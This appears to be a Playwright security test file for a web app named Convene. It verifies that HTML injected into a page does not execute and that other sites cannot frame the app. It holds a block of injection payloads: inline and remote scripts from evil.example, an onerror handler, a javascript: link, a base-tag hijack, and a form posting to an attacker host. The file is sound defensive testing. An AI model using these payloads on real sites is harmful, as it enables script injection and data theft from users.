"""Whatever gets into a page by a fault of ours, the browser runs none of it, and shows the page in no frame."""

from __future__ import annotations

import pytest
from playwright.async_api import BrowserContext, Page, Route

from tests.browser.conftest import Running

pytestmark = pytest.mark.browser
INJECTED = """
<base href="https://evil.example/">
<script>window.ran = "inline script"</script>
<script src="https://evil.example/a.js"></script>
<img src="x" onerror="window.ran = 'handler'">
<a id="link" href="javascript:window.ran='link'">here</a>
<style>h1 { color: rgb(1, 2, 3) }</style>
<form id="away" method="post" action="https://evil.example/take"><input name="a" value="b"></form>
<iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<object data="data:text/html,<script>parent.ran='object'</script>"></object>
"""


async def _with_injection(route: Route) -> None:
    """The page as Convene sent it, headers and all, with more in its body than Convene wrote."""
    answer = await route.fetch()
    body = (await answer.text()).replace("<h1", f"{INJECTED}<h1", 1)
    await route.fulfill(response=answer, body=body)


@pytest.fixture
async def refusing(signed_in: BrowserContext) -> Page:
    """A page whose complaints are expected."""
    return await signed_in.new_page()


async def test_abuse_case_37_nothing_that_was_injected_into_a_page_runs(refusing: Page, convene: Running) -> None:
    asked: list[str] = []
    refusing.on("requestfinished", lambda request: asked.append(request.url))
    await refusing.route(f"{convene.base_url}/meetings", _with_injection)
    await refusing.goto("/meetings")
    assert await refusing.locator("#away").count() == 1, "it was injected"
    await refusing.locator("#link").click()
    await refusing.evaluate("document.getElementById('away').submit()")
    await refusing.wait_for_timeout(300)
    assert await refusing.evaluate("window.ran") is None
    assert await refusing.evaluate("document.baseURI") == f"{convene.base_url}/meetings"
    assert await refusing.evaluate("getComputedStyle(document.querySelector('h1')).color") != "rgb(1, 2, 3)"
    assert refusing.url == f"{convene.base_url}/meetings"
    assert [url for url in asked if "evil.example" in url] == []
    await refusing.close()


async def test_abuse_case_37_no_other_site_shows_a_page_in_a_frame(refusing: Page, convene: Running) -> None:
    elsewhere = "http://elsewhere.example/"
    frame = f'<h1>Elsewhere</h1><iframe id="in" src="{convene.base_url}/sign-in"></iframe>'
    await refusing.route(elsewhere, lambda route: route.fulfill(body=frame, content_type="text/html"))
    await refusing.goto(elsewhere)
    await refusing.wait_for_timeout(500)
    (inside,) = [one for one in refusing.frames if one != refusing.main_frame]
    assert inside.url.startswith("chrome-error:")
    assert "Convene" not in await inside.content()
    await refusing.close()
